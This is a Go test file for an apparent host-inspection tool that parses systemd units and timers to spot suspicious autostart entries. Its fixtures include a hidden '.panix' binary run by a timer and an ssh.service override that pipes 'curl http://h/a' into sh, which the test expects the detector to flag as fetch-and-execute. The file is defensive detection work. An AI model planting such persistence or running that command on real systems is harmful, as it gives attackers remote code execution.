package observe

import (
	"fmt"
	"slices"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"demine/internal/fact"
	"demine/internal/host"
)

func TestUnits(t *testing.T) {
	s, c := lookAt(t, "unit-debian", initAnd(
		fact.Process{PID: 2, Ref: "process:2", Unit: "run.service"}, fact.Process{PID: 3, Ref: "process:3", Unit: "ssh.service"},
		fact.Process{PID: 4, Ref: "process:4", Unit: "run-u7.service"}, fact.Process{PID: 5, Ref: "process:5", Unit: "user.slice"},
	), unit)
	var got []string
	for _, a := range s.Autostart {
		state := "active"
		if !a.Active {
			state = a.Dormant
		}
		got = append(got, fmt.Sprintf("%s %s %s:%d %s %s [%s] %v: %s", a.Kind, a.Name, a.Origin.Path, a.Origin.Line, a.User, state, a.Schedule, a.Shell.Runs, a.Command))
	}
	slices.Sort(got)
	want := []string{
		"timer panix.timer /usr/local/lib/systemd/system/panix.timer:0  active [OnBootSec=30; OnCalendar=*:0/5] [/usr/local/bin/.panix]: /usr/local/bin/.panix",
		"unit echo@.service /usr/lib/systemd/system/echo@.service:2 root active [] [/bin/cat]: /bin/cat",
		"unit far.service /opt/far/far.service:2 root not-read [] [/opt/far/run]: /opt/far/run",
		`unit getty@tty1.service /usr/lib/systemd/system/getty@.service:2 root active [] [/sbin/agetty]: -/sbin/agetty -o '-p -- \\u' --noclear %I $TERM`,
		"unit panix.service /usr/local/lib/systemd/system/panix.service:2 root active [] [/usr/local/bin/.panix]: /usr/local/bin/.panix",
		"unit run-u7.service /run/systemd/transient/run-u7.service:2 root active [] [/tmp/t]: /tmp/t \"a b\"",
		"unit run.service /usr/lib/systemd/system/run.service:3 www-data active [] [/usr/bin/run]: /usr/bin/run --it",
		"unit ssh.service /etc/systemd/system/ssh.service.d/override.conf:3 root active [] [/usr/sbin/sshd /bin/sh]: /usr/sbin/sshd -t\n/bin/sh -c \"curl -fsSL http://h/a | sh\"",
	}
	if d := cmp.Diff(want, got); d != "" || c.State != fact.Seen {
		t.Error(c, d)
	}
	for _, a := range s.Autostart {
		if a.Name == "ssh.service" && !a.Shell.FetchExec {
			t.Errorf("the fetch in the drop-in is not seen: %+v", a.Shell)
		}
	}
}

func TestUnitsWithoutSystemd(t *testing.T) {
	s, _ := lookAt(t, "unit-debian", fact.Snapshot{Process: []fact.Process{{PID: 1, Comm: "init"}}}, unit)
	for _, a := range s.Autostart {
		if a.Active || a.Dormant != "no-daemon" {
			t.Errorf("%s: active %v %q", a.Name, a.Active, a.Dormant)
		}
	}
	_, c := lookAt(t, "cron-alpine", fact.Snapshot{}, unit)
	if c.State != fact.Absent {
		t.Errorf("Alpine: %+v", c)
	}
}

// A host has a few hundred unit files: reading those that matter must not show
// in the time of a look.
func TestUnitsOfThisMachine(t *testing.T) {
	s, c := lookAtHost(t, host.Live(), fact.Snapshot{}, unit)
	t.Logf("%d units in %v", len(s.Autostart), time.Duration(c.TookUS)*time.Microsecond)
}
